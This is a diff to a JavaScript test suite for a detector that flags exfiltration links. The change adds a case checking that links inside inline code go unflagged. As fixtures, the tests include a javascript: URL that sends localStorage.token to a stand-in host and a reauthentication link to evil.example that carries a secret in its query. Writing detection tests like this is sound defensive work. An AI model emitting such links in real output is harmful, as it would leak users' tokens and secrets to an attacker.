@@ -87,6 +87,11 @@ describe('exfiltration.link-url', () => {
     const html = "javascript:new Image().src='https://e.example/?'+localStorage.token";
     assert.deepEqual(found(LINK, `<a href="${html}">go</a>`), [html]);
     assert.deepEqual(found(LINK, '<a href="javascript:void(0)">menu</a> [x](javascript:alert(1))'), []);
+    assert.deepEqual(
+      found(LINK, `Rendered, \`[here](${markdown})\` would run.`),
+      [],
+      'inline code renders no link',
+    );
   });
   it('detects a link whose query names a secret', () => {
     const link = '[click here to reauthenticate](https://evil.example?secret=confetti)';
